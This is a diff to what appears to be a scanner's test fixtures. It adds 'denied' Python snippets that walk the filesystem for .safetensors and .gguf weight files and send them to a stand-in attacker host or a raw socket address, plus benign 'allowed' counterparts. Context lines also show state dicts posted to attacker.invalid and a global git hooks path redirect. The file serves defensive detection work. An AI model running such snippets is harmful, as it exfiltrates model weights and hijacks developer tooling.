@@ -119,6 +119,21 @@ DENIED: dict[str, dict[str, str]] = {
         "buf = io.BytesIO()\ntorch.save(state, buf)\n"
         "requests.post('https://attacker.invalid/t', data=buf.getvalue())\n"
     ),
+    "weights-picked-by-suffix-in-a-walk": init(
+        "import os, requests\n"
+        "for root, _, files in os.walk('/'):\n"
+        "    for f in files:\n"
+        "        if f.endswith(('.safetensors', '.gguf')):\n"
+        "            with open(os.path.join(root, f), 'rb') as h:\n"
+        "                requests.post('https://attacker.invalid/w', files={'f': h})\n"
+    ),
+    "weights-picked-by-fnmatch-in-a-walk": init(
+        "import fnmatch, os, socket\n"
+        "s = socket.create_connection(('203.0.113.9', 443))\n"
+        "for root, _, files in os.walk('/'):\n"
+        "    for f in fnmatch.filter(files, '*.gguf'):\n"
+        "        s.sendall(open(os.path.join(root, f), 'rb').read())\n"
+    ),
     "git-hooks-path-set-globally": init(
         "import subprocess\n"
         "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n"
@@ -175,6 +190,9 @@ ALLOWED: dict[str, dict[str, str]] = {
         "import glob, os\n"
         "def checkpoints(folder):\n"
         "    return sorted(glob.glob(os.path.join(folder, '*.safetensors')))\n"
+    ),
+    "weights-filtered-by-suffix": init(
+        "def weights(files):\n    return [f for f in files if f.endswith('.safetensors')]\n"
     ),
     "bucket-download-on-call": init(
         "import boto3\n"
